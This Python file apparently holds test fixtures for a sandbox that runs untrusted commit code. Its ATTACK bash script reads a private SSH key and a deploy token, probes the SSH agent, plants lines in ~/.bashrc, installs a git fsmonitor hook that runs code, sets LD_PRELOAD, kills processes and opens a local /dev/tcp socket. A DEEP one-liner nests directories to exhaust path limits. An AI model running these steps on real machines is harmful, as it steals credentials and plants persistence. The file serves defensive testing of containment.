"""What a commit can do to the folder it works in, to its user and to others."""

DEEP = """python3 -c 'import os
for _ in range(1100): os.mkdir("deep"); os.chdir("deep")'"""
"""Makes nested folders: more than a recursive function follows, and a path longer than the kernel takes."""

ATTACK = r"""#!/bin/bash
# Tries what foreign code might try, as the build and as the workload; the file `targets` names what it is after.
. ./targets
exec 2>/dev/null
study=$ERGIT_STUDY launcher=$PPID
measuring=$(awk '{ print $4 }' "/proc/$launcher/stat")
program=$(tr '\0' ' ' <"/proc/$launcher/cmdline" | sed -n "s/.*sys.path\[0\] = '\([^']*\)'.*/\1/p")
says() { echo "$1: ${*:2}"; }

cat ~/.ssh/id_test
ln -s "$HOME/.ssh" keys
sed 's/^/through a link: /' keys/id_test
says token "$DEPLOY_TOKEN"
[ -S "$SSH_AUTH_SOCK" ] && python3 -c "import socket; socket.socket(socket.AF_UNIX).connect('$SSH_AUTH_SOCK')" &&
    says agent answers
says sockets $(ls -A /run)
echo planted >>~/.bashrc
for record in "$study"/results/readings/*/*.json; do echo >>"$record"; done
echo planted >"$study/results/build/planted"
echo planted >"$study/results/mirror.git/planted"
says checkouts $(ls "$study/results/checkout")
echo planted >"$program/ergit/planted"
for process in /proc/[0-9]*; do
    [ "$(tr '\0' ' ' <"$process/cmdline")" = "sleep $victim " ] && kill "${process#/proc/}"
done
((measuring > 1)) && kill -0 "$measuring" && says signal "reaches the measuring program"
grep -qa ERGIT_SETTINGS_ "/proc/$measuring/environ" && says memory "of the measuring program"
for pipe in 4 5 6 7; do (: >"/proc/$launcher/fd/$pipe") && says report "on descriptor $pipe"; done
echo planted >"/tmp/$planted"
[ -w "$lock" ] && says lock "may be taken"
[ -w /proc/sys/kernel/core_pattern ] && says kernel "may be set"
says privileges "$(grep NoNewPrivs /proc/self/status)"
setsid sleep "$daemon" &
[ "$1" = workload ] && says variables "$(tr '\0' '\n' <"/proc/$$/environ" | grep planted)"
export LD_PRELOAD=/planted.so JAVA_TOOL_OPTIONS=-javaagent:planted.jar
printf '#!/bin/sh\necho planted >"%s/hooked"\n' "$study" >.git/hook
chmod +x .git/hook
git config core.fsmonitor "$PWD/.git/hook"
(exec 3<>"/dev/tcp/127.0.0.1/$port") && says network "from the $1"
ln -s "$study/results" results
exit 0
"""
"""Prints what it has found; what it has planted is to be looked for."""
